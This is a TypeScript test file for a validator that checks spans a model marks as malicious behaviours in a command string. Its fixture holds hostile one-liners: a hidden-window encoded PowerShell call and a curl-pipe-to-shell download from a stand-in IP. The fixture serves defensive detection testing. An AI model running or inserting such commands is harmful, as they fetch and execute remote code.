import { expect, test } from 'vitest';
import { BEHAVIOUR_IDS } from './behaviours.ts';
import { explain } from './explain.ts';
import { MARKS_MAX, markSchema, readMarks } from './mark.ts';

const TEXT = 'powershell -w hidden -enc SQBFAFgA; curl http://203.0.113.9/a.sh | sh';
const LIMITS = { bytes: 10_000, latencyMs: 1_000 };
const read = (value: unknown, text = TEXT, more = {}) => {
  const answer = typeof value === 'string' ? value : JSON.stringify(value);
  return readMarks(
    { text: answer, bytes: answer.length, finish: 'stop', latencyMs: 1, packet: '', ...more },
    text,
    LIMITS,
  );
};

test('a mark holds where the span exists and the behaviour’s own signs are in it', () => {
  const seen = explain(TEXT).seen.filter(one => one.part === -1);
  expect(seen.length).toBeGreaterThan(1);
  const marks = seen.map(({ behaviour, start, end }) => ({ behaviour, start, end }));
  expect(read({ marks }).marks?.map(({ behaviour }) => behaviour)).toEqual(seen.map(one => one.behaviour));
});

test.each([
  ['a span that ends behind the text', { behaviour: 'hidden_window', start: 0, end: 9_999 }, 'value.not_recomputed'],
  ['a span before the text', { behaviour: 'hidden_window', start: -5, end: 20 }, 'value.not_recomputed'],
  ['an empty span', { behaviour: 'hidden_window', start: 11, end: 11 }, 'value.not_recomputed'],
  ['a span in which nothing of it stands', { behaviour: 'hidden_window', start: 36, end: 50 }, 'value.not_recomputed'],
  ['a behaviour that is not in the list', { behaviour: 'constructor', start: 0, end: 20 }, 'reference.unknown_id'],
])('%s is dropped, and says nothing of the others', (_what, mark, code) => {
  const good = { behaviour: 'hidden_window', start: 0, end: 20 };
  const { marks, dropped } = read({ marks: [mark, good] });
  expect(dropped).toEqual([{ code, pointer: '/marks/0' }]);
  expect(marks).toHaveLength(1);
});

test.each([
  ['prose', 'It is harmless.', {}, 'parse.not_json'],
  ['another form', { marks: 'none' }, {}, 'schema.mismatch'],
  ['a word beside the marks', { marks: [], verdict: 'benign' }, {}, 'schema.mismatch'],
  ['a word in a mark', { marks: [{ behaviour: 'x', start: 0, end: 1, why: 'y' }] }, {}, 'schema.mismatch'],
  ['a broken number', { marks: [{ behaviour: 'x', start: 0.5, end: 1 }] }, {}, 'schema.mismatch'],
  ['nothing', null as unknown as object, {}, 'schema.mismatch'],
  [
    'too many marks',
    { marks: Array.from({ length: MARKS_MAX + 1 }, () => ({ behaviour: 'x', start: 0, end: 1 })) },
    {},
    'schema.mismatch',
  ],
  ['an answer that was cut', { marks: [] }, { finish: 'length' }, 'envelope.cut'],
  ['an answer that came late', { marks: [] }, { latencyMs: 1_001 }, 'envelope.late'],
  ['bytes that are no text', { marks: [] }, { text: undefined }, 'envelope.not_utf8'],
  ['too many bytes', { marks: [] }, { bytes: 10_001 }, 'envelope.too_large'],
])('%s is refused as a whole', (_what, value, more, code) => {
  expect(read(value, TEXT, more)).toEqual({ marks: undefined, dropped: [{ code, pointer: '' }] });
});

test('the form that is asked for has room for no word of a model', () => {
  const text = JSON.stringify(markSchema(TEXT));
  expect(text.match(/"type":"string"/g)).toHaveLength(1);
  expect(text).toContain(JSON.stringify(BEHAVIOUR_IDS));
});
